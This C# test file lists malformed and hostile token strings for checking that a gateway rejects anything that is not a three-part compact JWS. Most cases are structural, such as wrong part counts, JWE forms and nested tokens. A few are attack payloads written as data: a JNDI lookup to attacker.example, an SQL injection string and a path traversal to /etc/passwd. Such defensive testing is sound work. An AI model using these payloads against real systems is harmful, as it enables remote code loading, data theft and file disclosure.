using EdgeGateway.Testing.Tokens;

namespace FunctionalTests.Tokens.Forgery.Table;

/// <summary>Texts that are not a compact JWS of three parts (RFC 7515 section 7.1).</summary>
internal static class FormCases
{
    public static IEnumerable<BadToken> List()
    {
        var good = TokenBuilder.Hs256;
        string[] parts = good.Token.Split('.');
        foreach (
            var text in (string[])
                [
                    ".",
                    "..",
                    "...",
                    "....",
                    "a",
                    "a.b",
                    "a.b.c",
                    "AA.AA.AA",
                    "e30.e30.e30",
                    "null",
                    "undefined",
                    "[object Object]",
                    "0",
                    "true",
                    "{}",
                    "*",
                    "Bearer",
                    "00000000-0000-0000-0000-000000000000",
                    "${jndi:ldap://attacker.example/a}",
                    "' OR 1=1 --",
                    "../../etc/passwd",
                ]
        )
        {
            yield return new($"'{text}'", text);
        }

        yield return new("one part", parts[1]);
        yield return new("header and payload", $"{parts[0]}.{parts[1]}");
        yield return new("four parts", $"{good.Token}.{parts[2]}");
        yield return new("an empty fourth part", $"{good.Token}.");
        yield return new("an empty header", (good with { HeaderPart = "" }).Token);
        yield return new("an empty payload", (good with { PayloadPart = "" }).Token);
        yield return new("an empty header and payload", (good with { HeaderPart = "", PayloadPart = "" }).Token);
        yield return new("a detached payload", $"{parts[0]}..{parts[2]}");
        yield return new("a payload before its header", $"{parts[1]}.{parts[0]}.{parts[2]}");
        yield return new("the texts as they are", $"{good.Header}.{good.Payload}.{parts[2]}");
        yield return new("the claims alone", good.Payload);

        var encrypted = TestKeys.Base64UrlEncode("""{"alg":"dir","enc":"A256GCM","kid":"test"}""");
        yield return new(
            "a JWE",
            $"{encrypted}..{TestKeys.Base64UrlEncode(new byte[12])}.{parts[1]}.{TestKeys.Base64UrlEncode(new byte[16])}"
        );
        yield return new(
            "a JWE with a key in it",
            $"{encrypted}.{TestKeys.Base64UrlEncode(new byte[40])}.{TestKeys.Base64UrlEncode(new byte[12])}"
                + $".{parts[1]}.{TestKeys.Base64UrlEncode(new byte[16])}"
        );
        yield return new("a JWE in three parts", $"{encrypted}.{parts[1]}.{parts[2]}");

        yield return new(
            "a JWS as JSON",
            $$"""{"protected":"{{parts[0]}}","payload":"{{parts[1]}}","signature":"{{parts[2]}}"}"""
        );
        yield return new(
            "a JWS as JSON with several signatures",
            $$"""{"payload":"{{parts[1]}}","signatures":[{"protected":"{{parts[0]}}","signature":"{{parts[2]}}"}]}"""
        );
        yield return new("a token in a token", good.WithField("cty", "\"JWT\"").WithPayload(good.Token).Token);
        yield return new("a token in a token that does not say so", good.WithPayload(good.Token).Token);
        yield return new("a token in a string in a token", good.WithPayload($"\"{good.Token}\"").Token);
        yield return new(
            "a token of another token's parts",
            $"{parts[0]}.{TestKeys.Base64UrlEncode(good.Token)}.{parts[2]}"
        );
    }
}
